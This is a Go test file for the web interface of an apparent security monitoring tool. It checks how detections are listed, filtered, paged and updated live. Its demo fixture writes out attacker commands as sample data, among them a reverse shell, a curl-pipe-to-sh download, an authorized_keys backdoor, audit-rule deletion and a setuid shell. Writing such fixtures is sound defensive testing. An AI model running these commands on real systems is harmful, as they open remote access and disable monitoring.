package web_test

import (
	"context"
	"encoding/json"
	"fmt"
	"io/fs"
	"math"
	"net/http"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"seawall/collector/fleet"
	"seawall/collector/web/webtest"
	"seawall/pkg/finding"
)

func (d *demo) Detections(_ context.Context, q fleet.DetectionQuery) ([]fleet.Detection, error) {
	d.mu.Lock()
	defer d.mu.Unlock()
	var out []fleet.Detection
	for _, s := range d.storms {
		x := &s.Detection
		i := slices.IndexFunc(d.hosts, func(h fleet.Host) bool { return h.ID == s.Host })
		if (len(q.Scope) == 0 || i >= 0 && within(&d.hosts[i], q.Scope)) && (q.Host == "" || s.Host == q.Host) && (q.Rule == "" || x.Rule == q.Rule) && (q.Severity == 0 || x.Severity == q.Severity) &&
			(q.Before == 0 || s.Place < q.Before) && (q.Limit == 0 || len(out) < q.Limit) {
			out = append(out, s)
		}
	}
	return out, d.err
}

func (d *demo) Detection(_ context.Context, host fleet.HostID, storm string) (fleet.Detection, error) {
	d.mu.Lock()
	defer d.mu.Unlock()
	for _, s := range d.storms {
		if s.Host == host && s.Detection.ID == storm {
			return s, d.err
		}
	}
	return fleet.Detection{}, fmt.Errorf("detection: %w", fs.ErrNotExist)
}

// detect has a host report a storm, again where its id is known, and tells the
// subscribers.
func (d *demo) detect(host int, x finding.Detection) {
	d.mu.Lock()
	defer d.mu.Unlock()
	h := &d.hosts[host]
	place := int64(1)
	if len(d.storms) > 0 {
		place = d.storms[0].Place + 1
	}
	had := len(d.storms)
	d.storms = slices.DeleteFunc(d.storms, func(s fleet.Detection) bool { return s.Host == h.ID && s.Detection.ID == x.ID })
	if len(d.storms) == had && x.Severity <= finding.SeverityCritical {
		h.Detected[x.Severity]++
	}
	d.storms = slices.Insert(d.storms, 0, fleet.Detection{Place: place, Host: h.ID, HostName: h.Labels.Name, Received: d.now, Detection: x})
	for c := range d.subs {
		c <- fleet.Update{Host: h.ID}
	}
}

// demoStorms are rule|severity|technique|title|command|target|times.
const demoStorms = `net-reverse-shell|5|T1059.004|A shell talks to the network|bash -i|203.0.113.66:4444|1
auth-authorized-keys|4|T1098.004|SSH keys of a user are changed|tee -a /home/deploy/.ssh/authorized_keys|/home/deploy/.ssh/authorized_keys|1
auth-brute-force|4|T1110.001|Passwords are tried over SSH|||4812
defence-audit-rules|5|T1562.012|Audit rules are removed|auditctl -D||1
priv-setuid|4|T1548.001|A program becomes setuid root|chmod u+s /tmp/.x/bash|/tmp/.x/bash|2
persist-cron|3|T1053.003|A cron job is written|crontab -|/var/spool/cron/crontabs/www-data|1
exec-download-run|4|T1105|A download is run at once|sh -c curl -fsSL http://198.51.100.7/i.sh PIPE sh|198.51.100.7:80|3
recon-ssh-scan|2|T1046|Many hosts are connected to|masscan -p22 198.51.0.0/16 --rate 10000|198.51.0.0:22|65536
`

func demoDetection(n int, now time.Time) finding.Detection {
	lines := strings.Split(strings.TrimSpace(demoStorms), "\n")
	f := strings.Split(lines[n%len(lines)], "|")
	f[4] = strings.Replace(f[4], "PIPE", "|", 1)
	at := now.Add(-time.Duration(n*n+1) * 7 * time.Minute)
	d := finding.Detection{
		ID: fmt.Sprintf("%08x", 0x5ea+n*7919), Rule: f[0], Severity: finding.Severity(f[1][0] - '0'), Techniques: []string{f[2], "T1021.004"}[:1+n%2], Title: f[3],
		Description:    "Somebody who got in does this early.\nNothing that belongs on a server does it by itself.",
		FalsePositives: []string{"A person who debugs", "Configuration management at its first run"},
		First:          at.Add(-time.Duration(n) * time.Minute), Last: at, Ended: n%3 != 1,
	}
	d.Count, _ = strconv.ParseUint(f[6], 10, 64) // it is written above
	s := finding.Sample{
		Time: d.First, Serial: uint64(90_410 + n), Command: f[4], Target: f[5], Syscall: "execve", Claimed: f[4] == "",
		Actor: finding.Actor{AUID: 1000, Login: "alice", UID: 33 * uint32(n%2), User: []string{"root", "www-data"}[n%2], Session: uint32(4 + n), From: "203.0.113.7", Via: "sudo",
			Program: "/usr/bin/bash", Text: "alice from 203.0.113.7 as " + []string{"root", "www-data"}[n%2] + " through sudo"},
		Ancestry: []finding.Process{{PID: 21_884, Exe: "/usr/bin/bash", Command: f[4]}, {PID: 21_870, Exe: "/usr/bin/sudo", Command: "sudo -u www-data bash"},
			{PID: 20_114, Exe: "/usr/bin/bash", Command: "-bash"}, {PID: 20_101, Exe: "/usr/sbin/sshd", Command: "sshd: alice@pts/0"}, {PID: 1, Exe: "/usr/lib/systemd/systemd"}},
		Records: []string{
			`type=SYSCALL msg=audit(1773500000.123:90410): arch=c000003e syscall=59 success=yes exit=0 a0=55d1c8 a1=55d1d0 a2=55d1e0 a3=8 items=2 ppid=21870 pid=21884 auid=1000 uid=33 gid=33 euid=33 ses=4 comm="bash" exe="/usr/bin/bash" key="seawall-exec"`,
			`type=EXECVE msg=audit(1773500000.123:90410): argc=2 a0="bash" a1="-i"`,
			`type=CWD msg=audit(1773500000.123:90410): cwd="/var/www"`,
		},
	}
	if f[4] == "" {
		s.Actor, s.Ancestry, s.Syscall = finding.Actor{AUID: finding.Unset, Session: finding.Unset, UID: 0, User: "root", From: "198.51.100.23", Program: "/usr/sbin/sshd", Text: "nobody yet, from 198.51.100.23"}, nil, ""
		d.Group = []string{"198.51.100.23"}
	}
	d.Samples = []finding.Sample{s}
	if d.Count > 2 {
		s.Serial++
		s.Time = d.Last
		d.Samples = append(d.Samples, s)
	}
	return d
}

// addHostileDetections gives the host detections with every text one of texts, which
// next returns, and numbers that nobody has.
func addHostileDetections(d *demo, host int, texts []string, next func() string, far time.Time) {
	h := &d.hosts[host]
	h.Detected = [6]int{math.MaxInt, 1, -1}
	for k, s := range texts {
		sample := finding.Sample{
			Time: far, Serial: math.MaxUint64, Command: s, Target: next(), Syscall: next(), Claimed: k%2 == 0, Records: []string{s, next()},
			Actor:    finding.Actor{AUID: uint32(k), Login: next(), UID: finding.Unset, User: next(), Session: finding.Unset, From: next(), Via: next(), Program: next(), Text: s},
			Ancestry: []finding.Process{{PID: math.MaxUint32, Exe: next(), Command: next()}, {Exe: s}},
		}
		if k%3 == 0 {
			sample.Actor.Text = ""
		}
		x := finding.Detection{
			ID: fmt.Sprintf("%x", k+1), Rule: s, Title: s, Severity: finding.Severity(k % 9), Techniques: []string{s, next()}, Description: s + "\n" + next(),
			FalsePositives: []string{next()}, Count: math.MaxUint64, First: far, Last: far, Group: []string{next()}, Samples: []finding.Sample{sample},
		}
		if k%4 == 0 {
			x.Title = ""
		}
		d.storms = slices.Insert(d.storms, 0, fleet.Detection{Place: int64(len(d.storms) + 1), Host: h.ID, HostName: h.Labels.Name, Received: far, Detection: x})
	}
}

// TestDetectionPages: filters select, pages follow each other, and what is not there is
// not found.
func TestDetectionPages(t *testing.T) {
	d := demoFleet(demoNow)
	for n := range 120 {
		x := demoDetection(n, demoNow)
		x.ID = fmt.Sprintf("%x", 1<<20+n)
		d.detect(n%3, x)
	}
	b := open(t, newServer(t, config(d)))
	b.login()
	id := string(d.hosts[1].ID)
	for _, q := range []string{"", "severity=critical", "host=" + id, "rule=persist-cron", "rule=auth-brute-force&severity=high&host=" + id, "severity=nonsense", "host=zz", "severity=info"} {
		want := 0
		for _, s := range d.storms {
			x := &s.Detection
			if (!strings.Contains(q, "severity=critical") || x.Severity == 5) && (!strings.Contains(q, "severity=high") || x.Severity == 4) &&
				(!strings.Contains(q, "host="+id) || string(s.Host) == id) && (!strings.Contains(q, "rule=") || strings.Contains(q, "rule="+x.Rule)) {
				want++
			}
		}
		n, path := 0, "/detections?"+q
		for path != "" {
			a := b.get(path)
			if a.code != http.StatusOK {
				t.Fatalf("%s: %d", path, a.code)
			}
			n += strings.Count(a.body, "data-storm=")
			_, rest, more := strings.Cut(strings.ReplaceAll(a.body, "&amp;", "&"), `">Newest detections</a>`)
			if !more {
				rest = strings.ReplaceAll(a.body, "&amp;", "&")
			}
			before, _, older := strings.Cut(rest, `" rel="next">Older detections`)
			if path = ""; older {
				path = before[strings.LastIndex(before, `"`)+1:]
			}
		}
		if n != want {
			t.Errorf("%q shows %d of %d", q, n, want)
		}
		var api struct {
			Detections []fleet.Detection `json:"detections"`
			Next       int64             `json:"next"`
		}
		n = 0
		if strings.Contains(q, "nonsense") || strings.Contains(q, "zz") || strings.Contains(q, "=info") { // a program is told what it got wrong
			if a := b.get("/api/v1/detections?" + q); a.code != http.StatusBadRequest {
				t.Errorf("%q answers a program with %d", q, a.code)
			}
			continue
		}
		for next := ""; ; {
			api.Detections = nil
			if err := json.Unmarshal([]byte(b.get("/api/v1/detections?limit=30&"+q+next).body), &api); err != nil {
				t.Fatal(err)
			}
			n += len(api.Detections)
			if api.Next == 0 {
				break
			}
			next = "&before=" + jsonNumber(api.Next)
		}
		if n != want {
			t.Errorf("%q answers with %d of %d", q, n, want)
		}
	}
	storm := d.storms[0]
	path := "/hosts/" + string(storm.Host) + "/detections/" + storm.Detection.ID
	for _, path := range []string{path, "/api/v1" + path} {
		if a := b.get(path); a.code != http.StatusOK || !strings.Contains(a.body, storm.Detection.Title) {
			t.Errorf("%s: %d", path, a.code)
		}
		for _, bad := range []string{path + "0", strings.Replace(path, string(storm.Host), strings.Repeat("0", 32), 1), strings.Replace(path, string(storm.Host), "zz", 1)} {
			if a := b.get(bad); a.code != http.StatusNotFound {
				t.Errorf("%s: %d", bad, a.code)
			}
		}
	}
}

// TestLiveDetections: a detection is on the open pages of the fleet, the host and
// itself, and grows there.
func TestLiveDetections(t *testing.T) {
	d := demoFleet(time.Now())
	base := serve(t, newServer(t, config(d)))
	tab := webtest.Chromium(t)
	said := webtest.Listen(t, tab)
	signIn(t, tab, base)
	x := demoDetection(2, d.now)
	host := "/hosts/" + string(d.hosts[4].ID)
	for i, path := range []string{"/detections", host, "/", host + "/detections/100"} {
		x.ID = fmt.Sprint(100 + i)
		if i == 3 {
			x.ID = "100"
		}
		if err := chromedp.Do(tab, chromedp.Navigate(base+path)); err != nil {
			t.Fatal(err)
		}
		until(t, tab, 10*time.Second, `document.querySelector('#link').dataset.state === 'live'`)
		value[bool](t, tab, `window.stays = true`)
		x.Count = 7000 + uint64(i)
		d.detect(4, x)
		row := fmt.Sprintf(`document.querySelector('[data-storm="%s"]')`, x.ID)
		if i == 3 {
			row = `document.querySelector('#what')`
		}
		until(t, tab, 5*time.Second, row+`?.innerText.includes('7\u202f00`+fmt.Sprint(i)+` times')`)
		x.Count += 1000
		d.detect(4, x)
		until(t, tab, 5*time.Second, row+`?.innerText.includes('8\u202f00`+fmt.Sprint(i)+` times')`)
		if !value[bool](t, tab, `window.stays === true && document.querySelector('#detections, #list, #what').checkVisibility()`) {
			t.Errorf("%s was loaded again, or shows nothing", path)
		}
	}
	for _, s := range said.Take() {
		t.Error(s)
	}
}
